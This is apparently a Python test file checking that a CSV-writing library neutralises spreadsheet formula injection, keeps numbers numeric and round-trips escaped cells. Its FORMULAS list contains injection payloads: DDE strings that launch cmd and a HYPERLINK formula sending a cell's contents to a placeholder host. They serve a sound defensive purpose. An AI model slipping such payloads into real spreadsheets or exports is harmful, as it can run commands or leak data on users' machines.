from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from hypothesis import given
from hypothesis import strategies as st
from reliability import count

from tllboost.errors import printable
from tllboost.files import csv_text, inert_cell, plain_cell
from tllboost.grid.outputs import write_csv
from tllboost.pairs import read_pairs

FORMULAS = [
    "=1+1",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "-",
    "--1",
    "=",
    "-inf",
]  # fmt: skip
NUMBERS = ["-1", "+1.5", "-1.5e-07", "-.5", "+3."]


def grid_csv_text(header: list[str], rows: list[list[object]]) -> str:
    """Return the text of a table as a grid writes it."""
    with TemporaryDirectory() as folder:
        write_csv(Path(folder, "a.csv"), header, rows)
        return Path(folder, "a.csv").read_bytes().decode()


@pytest.mark.parametrize("writer", [csv_text, grid_csv_text])
@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_text_is_a_formula(writer, formula: str) -> None:
    text = writer(["left", formula], [[formula, "b"], ["a", formula]])
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert cells.count(f"'{formula}") == 3
    assert not [cell for cell in cells if re.match(r"[=+\-@\t\r\n]", cell)]
    count("bad tables tried")


@pytest.mark.parametrize("writer", [csv_text, grid_csv_text])
def test_numbers_stay_numbers(writer) -> None:
    text = writer(["a"] * 8, [[-1, -0.5, 2.5e-9, *NUMBERS]])
    row = text.splitlines()[1].split(",")
    assert [float(cell) for cell in row] == [-1, -0.5, 2.5e-9, *map(float, NUMBERS)]


names = st.text(
    st.one_of(st.sampled_from("'=+-@\t\r\n\",;1a"), st.characters(codec="utf-8")),
    max_size=8,
)


@given(names)
def test_what_keeps_a_cell_inert_is_undone_by_reading(name: str) -> None:
    assert plain_cell(str(inert_cell(name))) == name


@given(st.lists(st.lists(names, min_size=2, max_size=2), min_size=1, max_size=4))
def test_rows_come_back_from_csv(rows: list[list[str]]) -> None:
    read = csv.reader(io.StringIO(csv_text(["a", "b"], rows), newline=""), strict=True)
    back = [[plain_cell(cell) for cell in row] for row in read]
    assert back == [["a", "b"], *rows]


def test_a_table_that_we_wrote_is_read_with_the_same_ids(tmp_path: Path) -> None:
    ids = ["=1+1", "-x", "@y", "'=quoted", "'tis", "a,b", 'say "hi"', "y\tz", "two\nl"]
    path = tmp_path / "pairs.csv"
    path.write_text(
        csv_text(["left", "right"], [[one, "other"] for one in ids]), "utf-8"
    )
    table = read_pairs(path)
    assert [table.ids[i] for i in table.left] == ids


@given(st.text(max_size=20))
def test_printable_text_is_one_line_of_what_can_be_shown(text: str) -> None:
    assert printable(text).isprintable()
    assert printable("straße.jpg") == "straße.jpg"
